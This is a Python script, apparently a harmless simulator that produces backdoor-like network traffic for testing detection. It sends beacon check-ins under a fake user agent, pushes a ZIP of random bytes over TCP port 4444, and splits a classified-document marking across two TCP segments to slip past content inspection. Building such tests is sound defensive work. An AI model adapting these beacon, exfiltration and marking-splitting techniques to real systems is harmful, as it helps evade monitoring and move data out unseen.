#!/usr/bin/env python3
"""The staged back door: harmless, but on the wire it looks the part.

    backdoor.py ADDRESS beacon | archive | marking
"""
import http.client
import io
import os
import socket
import struct
import sys
import time
import zipfile

address, stage = sys.argv[1:3]


def beacon():
    """Three check-ins, each in a connection of its own; each is answered with an order."""
    for number in range(3):
        connection = http.client.HTTPConnection(address, 80, timeout=10)
        connection.request("GET", f"/api/v2/sync?hid=7f3a-{number:04}", headers={"User-Agent": "upd/1.4"})
        connection.getresponse().read()
        connection.close()
        time.sleep(0.2)


def archive():
    """A file goes out as a ZIP archive over a raw TCP port."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as out:
        out.writestr("cables/2026-11.bin", os.urandom(3_000_000))
    data = made.getvalue()
    with socket.create_connection((address, 4444), timeout=10) as connection:
        connection.sendall(b"PUT1" + struct.pack(">I", len(data)) + data)


def marking():
    """A marking, cut in the middle: each half goes in a segment of its own."""
    with socket.create_connection((address, 4444), timeout=10) as connection:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        connection.sendall(b"subject: travel plans\nCABLE//CONFI")
        time.sleep(0.3)
        connection.sendall(b"DENTIAL//7731//EYES-ONLY\nbody follows\n")


{"beacon": beacon, "archive": archive, "marking": marking}[stage]()
